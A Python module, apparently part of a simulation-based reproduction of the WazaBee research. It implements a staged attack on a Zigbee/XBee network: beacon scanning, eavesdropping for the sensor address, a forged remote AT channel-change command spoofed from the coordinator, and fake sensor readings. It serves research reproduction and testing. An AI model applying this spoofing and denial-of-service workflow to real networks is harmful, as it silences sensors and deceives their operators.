"""Scenario B: complex Zigbee attack from a compromised BLE tracker (§VI-C).

Four stages, exactly as the paper's figure 5 workflow:

1. **Active scanning** — transmit a Beacon Request per channel, wait for a
   Beacon; collect channel, PAN id and coordinator address.
2. **Eavesdropping** — sniff legitimate data frames to learn the sensor's
   address.
3. **Remote AT command injection** — forge a remote AT ``CH`` command with
   the coordinator's address as source and the sensor's as destination,
   forcing the sensor onto another channel (the Vaccari et al. denial of
   service).
4. **Fake data injection** — impersonate the silenced sensor, feeding
   attacker-chosen readings to the coordinator's display.

Everything is event-driven on the simulation scheduler; the attack keeps a
timestamped log so benches/tests can assert the workflow.

Robustness model: every stage that waits on the environment is bounded.
Stages 1 and 2 get :data:`MAX_STAGE_RETRIES` re-attempts with exponential
backoff (scan repeats, eavesdrop windows double); a global watchdog caps
the whole workflow.  Exhausting a budget terminates in
:attr:`AttackPhase.FAILED` with a structured :class:`StageDiagnosis` — the
attack never hangs indefinitely.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Callable, Dict, List, Optional

from repro.core.firmware import ScanResult, WazaBeeFirmware
from repro.core.rx import DecodedFrame
from repro.dot15d4.channels import ZIGBEE_CHANNELS
from repro.dot15d4.frames import Address, FrameType, MacFrame, build_data
from repro.obs import ATTACK_STAGE
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.radio.scheduler import EventHandle
from repro.zigbee.xbee import AtCommand, RemoteAtCommand, SensorReading

__all__ = [
    "AttackPhase",
    "TrackerAttack",
    "AttackLogEntry",
    "StageDiagnosis",
    "FAKE_VALUE",
]

#: How long the active scan listens for beacons on each channel.
SCAN_DWELL_S = 0.05
#: Gap before each remote AT command repeat (and before spoofing starts).
AT_INJECTION_DELAY_S = 0.01
#: How many times the remote AT ``CH`` command is sent.
AT_INJECTION_REPEATS = 3
#: The reading every spoofed sensor report carries.
FAKE_VALUE = 99
#: The channels the active scan visits, in order.
SCAN_CHANNELS = ZIGBEE_CHANNELS
#: Gap between spoofed sensor reports (and before the first one).
FAKE_REPORT_INTERVAL_S = 2.0
#: How many spoofed reports complete the attack.
FAKE_REPORT_COUNT = 5
#: The first eavesdropping window; each retry doubles it.
EAVESDROP_TIMEOUT_S = 6.0
#: Re-attempts of the scanning and eavesdropping stages.
MAX_STAGE_RETRIES = 1
#: Backoff before the first scan retry; it doubles per attempt.
RETRY_BACKOFF_S = 0.1
#: The watchdog that caps the whole workflow.
MAX_ATTACK_DURATION_S = 120.0


class AttackPhase(Enum):
    IDLE = "idle"
    SCANNING = "scanning"
    EAVESDROPPING = "eavesdropping"
    AT_INJECTION = "at-injection"
    SPOOFING = "spoofing"
    DONE = "done"
    FAILED = "failed"


@dataclass
class AttackLogEntry:
    time: float
    phase: AttackPhase
    message: str


@dataclass
class StageDiagnosis:
    """Structured post-mortem for a failed (or watchdog-killed) stage."""

    stage: AttackPhase
    attempts: int
    elapsed_s: float
    reason: str
    suggestion: str = ""

    def __str__(self) -> str:  # pragma: no cover - formatting helper
        text = (
            f"{self.stage.value} failed after {self.attempts} attempt(s) "
            f"and {self.elapsed_s:.3f}s: {self.reason}"
        )
        if self.suggestion:
            text += f" ({self.suggestion})"
        return text


class TrackerAttack:
    """The §VI-C attack state machine, running on WazaBee firmware."""

    def __init__(
        self,
        firmware: WazaBeeFirmware,
        target_pan_id: Optional[int] = None,
        dos_channel: int = 26,
    ):
        self.firmware = firmware
        self.target_pan_id = target_pan_id
        self.dos_channel = dos_channel

        self.phase = AttackPhase.IDLE
        self.trace = _current_bus()
        self.metrics = _current_metrics()
        self.log: List[AttackLogEntry] = []
        self.network: Optional[ScanResult] = None
        self.sensor_address: Optional[Address] = None
        self.coordinator_address: Optional[Address] = None
        self.fake_reports_sent = 0
        self.diagnosis: Optional[StageDiagnosis] = None
        self.stage_attempts: Dict[AttackPhase, int] = {}
        self._fake_counter = 1000
        self._started_at = 0.0
        self._stage_started_at = 0.0
        self._watchdog: Optional[EventHandle] = None
        self._on_complete: Optional[Callable[["TrackerAttack"], None]] = None

    # -- public ------------------------------------------------------------
    def run(
        self, on_complete: Optional[Callable[["TrackerAttack"], None]] = None
    ) -> None:
        """Start the attack; phases advance via scheduled callbacks."""
        self._on_complete = on_complete
        self._started_at = self.scheduler.now
        self._watchdog = self.scheduler.schedule(
            MAX_ATTACK_DURATION_S, self._watchdog_fired
        )
        self._enter(AttackPhase.SCANNING, "starting active scan")
        self._start_scan()

    @property
    def scheduler(self):
        return self.firmware.scheduler

    def _log(self, message: str) -> None:
        self.log.append(
            AttackLogEntry(time=self.scheduler.now, phase=self.phase, message=message)
        )

    def _enter(self, phase: AttackPhase, message: str) -> None:
        self.phase = phase
        self._stage_started_at = self.scheduler.now
        self.stage_attempts.setdefault(phase, 0)
        self.metrics.counter(f"attack.b.stage.{phase.value}").inc()
        if self.trace.active:
            self.trace.emit(
                ATTACK_STAGE,
                time=self.scheduler.now,
                scenario="tracker",
                stage=phase.value,
                message=message,
            )
        self._log(message)

    def _stage_backoff(self, attempt: int) -> float:
        """Exponential backoff before re-attempting a stage (doubles)."""
        return RETRY_BACKOFF_S * (2 ** max(attempt - 1, 0))

    def _finish(self) -> None:
        if self._watchdog is not None:
            self._watchdog.cancel()
            self._watchdog = None
        if self._on_complete is not None:
            self._on_complete(self)

    def _fail(self, message: str, suggestion: str = "") -> None:
        stage = self.phase
        self.diagnosis = StageDiagnosis(
            stage=stage,
            attempts=self.stage_attempts.get(stage, 0),
            elapsed_s=self.scheduler.now - self._stage_started_at,
            reason=message,
            suggestion=suggestion,
        )
        self._enter(AttackPhase.FAILED, message)
        self._finish()

    def _watchdog_fired(self) -> None:
        self._watchdog = None
        if self.phase in (AttackPhase.DONE, AttackPhase.FAILED):
            return
        self.firmware.stop_sniffer()
        self._fail(
            f"watchdog expired after {MAX_ATTACK_DURATION_S}s in stage "
            f"{self.phase.value}",
            suggestion="raise MAX_ATTACK_DURATION_S or inspect the stalled stage",
        )

    # -- stage 1 → 2 ---------------------------------------------------------
    def _start_scan(self) -> None:
        self.stage_attempts[AttackPhase.SCANNING] = (
            self.stage_attempts.get(AttackPhase.SCANNING, 0) + 1
        )
        self.firmware.active_scan(
            list(SCAN_CHANNELS), dwell_s=SCAN_DWELL_S, on_complete=self._scanned
        )

    def _scanned(self, results: List[ScanResult]) -> None:
        if self.phase is not AttackPhase.SCANNING:
            return
        for result in results:
            if self.target_pan_id is None or result.pan_id == self.target_pan_id:
                self.network = result
                break
        if self.network is None:
            attempt = self.stage_attempts[AttackPhase.SCANNING]
            if attempt <= MAX_STAGE_RETRIES:
                backoff = self._stage_backoff(attempt)
                self._log(
                    f"scan attempt {attempt} found nothing; retrying in "
                    f"{backoff:.3f}s"
                )
                self.scheduler.schedule(backoff, self._start_scan)
                return
            self._fail(
                f"no network found on channels {list(SCAN_CHANNELS)}",
                suggestion="widen the channel list",
            )
            return
        self.coordinator_address = Address(
            pan_id=self.network.pan_id, address=self.network.coordinator_address
        )
        self._enter(
            AttackPhase.EAVESDROPPING,
            f"found PAN 0x{self.network.pan_id:04x} on channel "
            f"{self.network.channel} (coordinator {self.coordinator_address})",
        )
        self.stage_attempts[AttackPhase.EAVESDROPPING] = 1
        self.firmware.start_sniffer(self.network.channel, self._sniffed)
        self.scheduler.schedule(EAVESDROP_TIMEOUT_S, self._eavesdrop_timeout)

    # -- stage 2 → 3 ---------------------------------------------------------
    def _sniffed(self, frame: MacFrame, _decoded: DecodedFrame) -> None:
        if self.phase is not AttackPhase.EAVESDROPPING:
            return
        if frame.frame_type is not FrameType.DATA or frame.source is None:
            return
        if frame.destination is None or self.coordinator_address is None:
            return
        if frame.destination.address != self.coordinator_address.address:
            return
        self.sensor_address = frame.source
        self._log(f"identified sensor {self.sensor_address}")
        self._inject_at_command()

    def _eavesdrop_timeout(self) -> None:
        if self.phase is not AttackPhase.EAVESDROPPING or self.sensor_address:
            return
        attempt = self.stage_attempts[AttackPhase.EAVESDROPPING]
        if attempt <= MAX_STAGE_RETRIES:
            # The sniffer keeps running; double the listening window — the
            # sensor may simply report at a long period.
            self.stage_attempts[AttackPhase.EAVESDROPPING] = attempt + 1
            window = EAVESDROP_TIMEOUT_S * (2**attempt)
            self._log(
                f"eavesdrop window {attempt} elapsed without sensor traffic; "
                f"extending by {window:.3f}s"
            )
            self.scheduler.schedule(window, self._eavesdrop_timeout)
            return
        self.firmware.stop_sniffer()
        self._fail(
            "eavesdropping timed out without seeing sensor traffic",
            suggestion="increase EAVESDROP_TIMEOUT_S or MAX_STAGE_RETRIES",
        )

    # -- stage 3 → 4 ---------------------------------------------------------
    def _inject_at_command(self) -> None:
        assert self.network and self.sensor_address and self.coordinator_address
        self._enter(
            AttackPhase.AT_INJECTION,
            f"injecting remote AT CH={self.dos_channel} spoofed from "
            f"{self.coordinator_address}",
        )
        self.stage_attempts[AttackPhase.AT_INJECTION] = 1
        self.firmware.stop_sniffer()
        # The sniffed report is typically followed by the coordinator's
        # acknowledgement; transmitting repeats with a small delay keeps the
        # command clear of that exchange (the attacker cannot carrier-sense).
        for repeat in range(AT_INJECTION_REPEATS):
            self.scheduler.schedule(
                AT_INJECTION_DELAY_S * (repeat + 1),
                lambda r=repeat: self._send_at_command(r),
            )
        spoof_start = AT_INJECTION_DELAY_S * AT_INJECTION_REPEATS
        self.scheduler.schedule(
            spoof_start,
            lambda: self._enter(AttackPhase.SPOOFING, "starting fake data injection"),
        )
        self.scheduler.schedule(
            spoof_start + FAKE_REPORT_INTERVAL_S, self._send_fake_report
        )

    def _send_at_command(self, repeat: int) -> None:
        assert self.network and self.sensor_address and self.coordinator_address
        command = RemoteAtCommand(
            command=AtCommand.CHANNEL, parameter=bytes([self.dos_channel])
        )
        frame = build_data(
            source=self.coordinator_address,
            destination=self.sensor_address,
            payload=command.to_payload(),
            sequence_number=(0x70 + repeat) & 0xFF,
            ack_request=False,
        )
        self.firmware.send_frame(frame, self.network.channel)
        self._log(f"remote AT CH command sent (attempt {repeat + 1})")

    # -- stage 4 -----------------------------------------------------------------
    def _send_fake_report(self) -> None:
        if self.phase is not AttackPhase.SPOOFING:
            return
        assert self.network and self.sensor_address and self.coordinator_address
        self.stage_attempts[AttackPhase.SPOOFING] = (
            self.stage_attempts.get(AttackPhase.SPOOFING, 0) + 1
        )
        self._fake_counter += 1
        reading = SensorReading(counter=self._fake_counter, value=FAKE_VALUE)
        frame = build_data(
            source=self.sensor_address,
            destination=self.coordinator_address,
            payload=reading.to_payload(),
            sequence_number=self._fake_counter & 0xFF,
            ack_request=True,
        )
        self.firmware.send_frame(frame, self.network.channel)
        self.fake_reports_sent += 1
        self._log(f"spoofed reading #{self.fake_reports_sent} value={FAKE_VALUE}")
        if self.fake_reports_sent >= FAKE_REPORT_COUNT:
            self._enter(AttackPhase.DONE, "attack complete")
            self._finish()
            return
        self.scheduler.schedule(FAKE_REPORT_INTERVAL_S, self._send_fake_report)
